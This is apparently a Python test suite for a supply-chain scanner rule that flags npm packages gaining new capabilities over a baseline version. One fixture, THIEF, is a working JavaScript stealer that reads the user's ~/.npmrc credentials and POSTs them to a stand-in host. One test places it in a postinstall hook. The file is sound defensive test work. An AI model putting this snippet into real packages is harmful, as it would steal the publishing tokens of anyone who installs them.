"""Capabilities that the baseline did not have."""

from pratique.core.finding import Severity
from tests.analysis.inspecting import npm, of_rule, package_json

RULE = "capability-gained"
QUIET = {"index.js": "module.exports = (a, b) => a + b\n"}
THIEF = """const https = require('https'), fs = require('fs'), path = require('path');
const rc = fs.readFileSync(path.join(process.env.HOME, '.npmrc'), 'utf8');
https.request({host: 'collector.invalid', method: 'POST'}).end(rc);
"""


def test_credentials_and_network_at_load_are_held() -> None:
    findings = of_rule(npm({"index.js": THIEF}, QUIET), RULE)
    gravest = findings[0]
    assert Severity.HIGH == gravest.severity
    assert "imported" in gravest.message
    assert "index.js" == gravest.locations[0].path


def test_the_same_in_an_install_hook_is_told_as_installed() -> None:
    manifest = package_json(scripts={"postinstall": "node lib/build.js"})
    findings = of_rule(npm({**QUIET, "package.json": manifest, "lib/build.js": THIEF}, QUIET), RULE)
    assert "installed" in findings[0].message


def test_a_single_gain_is_a_note() -> None:
    after = {"index.js": "const fs = require('fs'); exports.read = p => fs.readFileSync(p)\n"}
    (finding,) = of_rule(npm(after, QUIET), RULE)
    assert Severity.MEDIUM == finding.severity
    assert "file-read" in finding.message


def test_what_the_baseline_could_stays_quiet() -> None:
    assert [] == of_rule(npm({"index.js": THIEF + "// more\n"}, {"index.js": THIEF}), RULE)


def test_tests_and_examples_do_not_count() -> None:
    assert [] == of_rule(npm({**QUIET, "test/thief.js": THIEF}, QUIET), RULE)


def test_a_capability_that_moves_into_a_hook_is_a_gain() -> None:
    calm = {"index.js": "exports.go = () => require('child_process').exec('ls')\n"}
    manifest = package_json(main="index.js", scripts={"postinstall": "node x.js"})
    hooked = {**calm, "package.json": manifest, "x.js": "require('child_process').exec('ls')\n"}
    assert any("process" in finding.message for finding in of_rule(npm(hooked, calm), RULE))
